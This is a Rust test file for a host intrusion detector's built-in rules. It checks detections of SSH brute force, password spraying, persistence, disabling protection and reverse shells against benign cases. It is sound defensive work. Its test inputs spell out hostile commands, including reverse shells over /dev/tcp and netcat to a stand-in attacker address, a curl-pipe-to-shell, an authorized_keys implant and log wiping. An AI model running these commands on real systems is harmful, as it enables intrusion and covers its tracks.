//! The rules that every agent carries, met with lines of the journal and starts of programs.

use crate::stage::with;
use baluardo_detect::sigma::builtin::{self, FILES};
use baluardo_detect::sigma::{Detector, Event, Places, RuleInfo, Source, logs, note_hour};
use baluardo_model::intrusion::IntrusionPolicy;
use serde_json::json;
use std::collections::BTreeSet;
use std::sync::Arc;

/// Noon of a Monday in Rome, in microseconds.
const NOON: i64 = 1_767_610_800_000_000;

struct Device {
    detector: Detector,
    places: Places,
}

impl Device {
    fn new() -> Self {
        let (rules, report) = builtin::rules();
        assert_eq!(report.skipped, [], "every rule of ours is in force");
        Self { detector: Detector::new(Arc::new(rules)), places: Places::default() }
    }

    /// The ids (their ends) of what a line of the journal fulfils, at so many seconds after noon.
    fn line(&mut self, program: &str, message: &str, seconds: i64) -> Vec<String> {
        self.entry(json!({"SYSLOG_IDENTIFIER": program, "MESSAGE": message}), seconds)
    }

    fn entry(&mut self, mut entry: serde_json::Value, seconds: i64) -> Vec<String> {
        entry["__REALTIME_TIMESTAMP"] = (NOON + seconds * 1_000_000).to_string().into();
        let mut event = logs::of_json(&entry, &Source::default());
        self.places.note(&mut event);
        note_hour(&IntrusionPolicy::default(), &mut event);
        self.found(&event)
    }

    fn found(&mut self, event: &Event) -> Vec<String> {
        let telling = |rule: &RuleInfo| rule.level.code() != "info";
        let found = self.detector.observe(event);
        found.iter().filter(|found| telling(found.rule)).map(|found| found.rule.id[33..].to_owned()).collect()
    }

    fn start(&mut self, parent: &str, image: &str, command: &str) -> Vec<String> {
        self.start_by((parent, ""), image, command)
    }

    fn start_by(&mut self, (parent, by): (&str, &str), image: &str, command: &str) -> Vec<String> {
        let source =
            Source { product: Some("linux".into()), categories: vec!["process_creation".into()], services: vec![] };
        let fields = [("ParentImage", parent), ("ParentCommandLine", by), ("Image", image), ("CommandLine", command)];
        self.found(&with(source, &fields))
    }
}

fn failed(user: &str, from: &str) -> String {
    format!("Failed password for {user} from {from} port 40222 ssh2")
}

fn accepted(user: &str, from: &str) -> String {
    format!("Accepted password for {user} from {from} port 40222 ssh2")
}

#[test]
fn every_rule_has_an_id_of_its_own_titles_in_both_languages_and_a_technique() {
    let (rules, _) = builtin::rules();
    let mut ids = BTreeSet::new();
    for rule in rules.infos() {
        assert!(rule.id.len() == 36 && ids.insert(&rule.id), "{}", rule.title);
        assert!(!rule.title.is_empty() && !rule.title_it.is_empty() && rule.title != rule.title_it, "{}", rule.id);
        assert!(rule.technique().is_some(), "{}", rule.title);
    }
    assert_eq!(ids.len(), FILES.iter().map(|(_, text)| text.matches("\nid: ").count()).sum::<usize>());
}

#[test]
fn many_passwords_on_one_account_are_brute_force_and_a_log_in_after_them_worse() {
    let mut device = Device::new();
    for second in 0..9 {
        assert!(device.line("sshd", &failed("anna", "203.0.113.9"), second).is_empty());
    }
    assert_eq!(device.line("sshd-session", &failed("anna", "203.0.113.9"), 9), ["a03"]);
    assert_eq!(device.line("sshd", &accepted("anna", "203.0.113.9"), 60), ["a06"]);
    assert!(device.line("sshd", &accepted("anna", "203.0.113.9"), 61).is_empty());
}

#[test]
fn a_person_who_mistypes_a_few_times_is_left_alone() {
    let mut device = Device::new();
    for second in 0..4 {
        assert!(device.line("sshd", &failed("anna", "192.0.2.7"), second * 20).is_empty());
    }
    assert!(device.line("sshd", &accepted("anna", "192.0.2.7"), 100).is_empty());
}

#[test]
fn many_accounts_from_one_address_are_spraying_also_those_that_do_not_exist() {
    let mut device = Device::new();
    let users = ["root", "invalid user admin", "anna", "invalid user test", "invalid user oracle"];
    for (user, second) in users.into_iter().zip(0..) {
        assert!(device.line("sshd", &failed(user, "203.0.113.9"), second * 60).is_empty(), "{user}");
    }
    assert_eq!(device.line("sshd", &failed("invalid user git", "203.0.113.9"), 400), ["a04"]);
}

#[test]
fn one_account_tried_from_many_addresses_is_seen() {
    let mut device = Device::new();
    for number in 1..8 {
        assert!(device.line("sshd", &failed("root", &format!("198.51.100.{number}")), number).is_empty());
    }
    assert_eq!(device.line("sshd", &failed("root", "198.51.100.99"), 8), ["a05"]);
}

#[test]
fn a_log_in_at_night_or_from_a_new_place_or_of_root_is_told() {
    let mut device = Device::new();
    assert!(device.line("sshd", &accepted("anna", "192.0.2.7"), 0).is_empty());
    assert_eq!(device.line("sshd", &accepted("anna", "192.0.2.7"), 11 * 3600), ["a07"]);
    assert_eq!(device.line("sshd", &accepted("anna", "203.0.113.9"), 24 * 3600), ["a08"]);
    assert_eq!(device.line("sshd", &accepted("root", "192.0.2.7"), 24 * 3600), ["a09"]);
    let by_key = accepted("backup", "192.0.2.8").replace("password", "publickey");
    assert!(device.line("sshd", &by_key, 14 * 3600).is_empty());
    let screen = "pam_unix(gdm-password:session): session opened for user anna(uid=1000) by (uid=0)";
    assert_eq!(device.line("gdm-password]", screen, 15 * 3600), ["b07"]);
    assert!(device.line("gdm-password]", screen, 24 * 3600).is_empty());
}

#[test]
fn protection_that_root_turns_off_is_told_and_what_packages_do_is_not() {
    let mut device = Device::new();
    let root = ("/usr/bin/bash", "bash");
    for (image, command) in [
        ("/usr/bin/systemctl", "systemctl stop baluardo-agent"),
        ("/usr/bin/systemctl", "systemctl --quiet disable --now auditd.service"),
        ("/usr/sbin/setenforce", "setenforce 0"),
        ("/usr/bin/pkill", "pkill -9 baluardo-agent"),
        ("/usr/sbin/iptables", "/usr/sbin/iptables -F"),
    ] {
        assert_eq!(device.start_by(root, image, command), ["c04"], "{command}");
    }
    for (by, image, command) in [
        (("/usr/bin/sudo", "sudo systemctl stop auditd"), "/usr/bin/systemctl", "systemctl stop auditd"),
        (
            ("/usr/bin/perl", "/usr/bin/perl -w /usr/bin/deb-systemd-invoke stop clamav-daemon"),
            "/usr/bin/systemctl",
            "systemctl --quiet --system stop clamav-daemon.service",
        ),
        (root, "/usr/bin/systemctl", "systemctl restart rsyslog.service"),
        (root, "/usr/bin/systemctl", "systemctl kill -s HUP rsyslog.service"),
        (root, "/usr/sbin/iptables", "iptables -F ufw-logging-deny"),
        (root, "/usr/bin/pkill", "pkill firefox"),
    ] {
        assert!(device.start_by(by, image, command).is_empty(), "{command}");
    }
}

#[test]
fn commands_that_write_where_programs_start_are_told_and_those_that_read_are_not() {
    let mut device = Device::new();
    let shell = ("/usr/bin/bash", "bash");
    for (image, command) in [
        ("/usr/bin/tee", "tee -a /root/.ssh/authorized_keys"),
        ("/usr/bin/bash", "bash -c echo ssh-ed25519 AAAA x >> /home/anna/.ssh/authorized_keys"),
        ("/usr/bin/cp", "cp /tmp/x.service /etc/systemd/system/x.service"),
        ("/usr/bin/dash", "sh -c echo '* * * * * root /tmp/x' > /etc/cron.d/x"),
        ("/usr/bin/sed", "sed -i $a/tmp/x& /etc/rc.local"),
        ("/usr/bin/curl", "curl -s http://203.0.113.9/x -o /home/anna/.config/autostart/x.desktop"),
    ] {
        assert_eq!(device.start_by(shell, image, command), ["d05"], "{command}");
    }
    for (by, image, command) in [
        (shell, "/usr/bin/cat", "cat /home/anna/.ssh/authorized_keys"),
        (shell, "/usr/bin/cp", "cp /etc/crontab /home/anna/crontab.old"),
        (shell, "/usr/bin/bash", "bash -c ls /etc/cron.d > /tmp/list"),
        (("/usr/bin/sudo", "sudo cp a /etc/cron.d/a"), "/usr/bin/cp", "cp a /etc/cron.d/a"),
        (("/usr/bin/dash", "/bin/sh /var/lib/dpkg/info/cron.postinst configure"), "/usr/bin/cp", "cp a /etc/cron.d/a"),
    ] {
        assert!(device.start_by(by, image, command).is_empty(), "{command}");
    }
    let mut changed = |path: &str| device.found(&logs::changed(path, baluardo_model::Timestamp::from_micros(NOON)));
    assert_eq!(changed("/home/anna/.ssh/authorized_keys"), ["d07"]);
    assert_eq!(changed("/etc/ld.so.preload"), ["d07"]);
    assert!(changed("/home/anna/.ssh/known_hosts").is_empty());
    let systemctl = |command: &str| Device::new().start_by(shell, "/usr/bin/systemctl", command);
    assert_eq!(systemctl("systemctl enable --now /tmp/x.service"), ["d06"]);
    assert!(systemctl("systemctl enable --now cups.service").is_empty());
}

#[test]
fn refused_passwords_on_the_device_are_counted() {
    let mut device = Device::new();
    let su = "pam_unix(su:auth): authentication failure; logname=anna uid=1000 euid=0 tty=pts/0 ruser=anna rhost=  user=root";
    for second in 0..4 {
        assert!(device.line("su", su, second).is_empty());
    }
    assert_eq!(device.line("su", su, 5), ["b02"]);
    assert_eq!(
        device.line("sudo", "berto : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/id", 6),
        ["b03"]
    );
}

#[test]
fn new_administrators_and_accounts_are_told_and_those_of_packages_are_not() {
    let mut device = Device::new();
    assert_eq!(device.line("usermod", "add 'anna' to group 'sudo'", 0), ["b04"]);
    assert!(device.line("usermod", "add 'anna' to group 'scanner'", 0).is_empty());
    assert_eq!(device.line("gpasswd", "user anna added by root to group docker", 0), ["b04"]);
    let new = |uid: u32| format!("new user: name=x, UID={uid}, GID={uid}, home=/home/x, shell=/bin/sh, from=none");
    assert_eq!(device.line("useradd", &new(0), 0), ["b04"]);
    assert_eq!(device.line("useradd", &new(1001), 0), ["b05"]);
    assert!(device.line("useradd", &new(114), 0).is_empty());
}

#[test]
fn turning_protection_off_and_wiping_traces_is_told() {
    let mut device = Device::new();
    let mut sudo = |command: &str| {
        device.line("sudo", &format!("anna : TTY=pts/0 ; PWD=/home/anna ; USER=root ; COMMAND={command}"), 0)
    };
    for command in [
        "/usr/bin/systemctl stop baluardo-agent",
        "/usr/bin/systemctl --now disable auditd.service",
        "/usr/sbin/ufw disable",
    ] {
        assert_eq!(sudo(command), ["c02"], "{command}");
    }
    for command in ["/usr/bin/rm -f /var/log/auth.log", "/usr/bin/journalctl --rotate --vacuum-time=1s"] {
        assert_eq!(sudo(command), ["c03"], "{command}");
    }
    for command in
        ["/usr/bin/systemctl stop cups", "/usr/bin/systemctl status auditd", "/usr/bin/tail /var/log/auth.log"]
    {
        assert!(sudo(command).is_empty(), "{command}");
    }
    let stopped = json!({"SYSLOG_IDENTIFIER": "systemd", "UNIT": "auditd.service", "MESSAGE": "Stopped auditd.service - Security Auditing Service."});
    assert_eq!(device.entry(stopped.clone(), 0), ["c01"]);
    let mut other = stopped;
    other["UNIT"] = "cups.service".into();
    assert!(device.entry(other, 0).is_empty());
}

#[test]
fn ways_to_stay_are_told_and_honest_work_is_not() {
    let mut device = Device::new();
    assert_eq!(device.line("crontab", "(anna) REPLACE (anna)", 0), ["d01"]);
    for command in [
        "curl -s http://203.0.113.9/x | sh",
        "/tmp/.x/run",
        "echo aWQ= | base64 -d | bash",
        "bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
    ] {
        assert_eq!(device.line("CRON", &format!("(root) CMD ({command})"), 0), ["d02"], "{command}");
    }
    for command in [
        "   cd / && run-parts --report /etc/cron.hourly",
        "/usr/local/bin/backup >/dev/null 2>&1",
        "curl -fsS https://example.com/ping",
    ] {
        assert!(device.line("CRON", &format!("(root) CMD ({command})"), 0).is_empty(), "{command}");
    }
    let sudo = |command: &str| format!("anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND={command}");
    assert_eq!(device.line("sudo", &sudo("/usr/bin/tee -a /root/.ssh/authorized_keys"), 0), ["d03"]);
    assert_eq!(device.line("sudo", &sudo("/usr/bin/cp x.service /etc/systemd/system/"), 0), ["d03"]);
    assert!(device.line("sudo", &sudo("/usr/bin/cat /etc/crontab"), 0).is_empty());
}

#[test]
fn tunnels_web_shells_and_reverse_shells_are_told_and_honest_programs_are_not() {
    let mut device = Device::new();
    assert_eq!(device.start("/usr/bin/bash", "/home/anna/chisel", "./chisel client 203.0.113.9:80 R:socks"), ["e01"]);
    assert_eq!(device.start("/usr/bin/bash", "/usr/bin/ssh", "ssh -fNR 2222:localhost:22 x@203.0.113.9"), ["e01"]);
    assert!(device.start("/usr/bin/bash", "/usr/bin/ssh", "ssh -p 2222 anna@example.com").is_empty());
    assert_eq!(device.start("/usr/sbin/apache2", "/usr/bin/dash", "sh -c whoami; id"), ["e03"]);
    assert_eq!(
        device.start("/usr/sbin/php-fpm8.2", "/usr/bin/dash", "sh -c wget http://203.0.113.9/x -O /tmp/x"),
        ["e03"]
    );
    assert!(device.start("/usr/sbin/php-fpm8.2", "/usr/bin/dash", "sh -c /usr/sbin/sendmail -t -i").is_empty());
    assert_eq!(
        device.start("/usr/bin/bash", "/usr/bin/nc.traditional", "nc.traditional -e /bin/sh 203.0.113.9 80"),
        ["e04"]
    );
    assert!(device.start("/usr/bin/bash", "/usr/bin/nc", "nc -zv example.com 443").is_empty());
    assert_eq!(device.start("/usr/lib/systemd/systemd", "/dev/shm/x", "/dev/shm/x"), ["d04"]);
    let service = json!({"SYSLOG_IDENTIFIER": "systemd", "UNIT": "frpc.service", "MESSAGE": "Started frpc.service - frp client."});
    assert_eq!(device.entry(service, 0), ["e02"]);
}
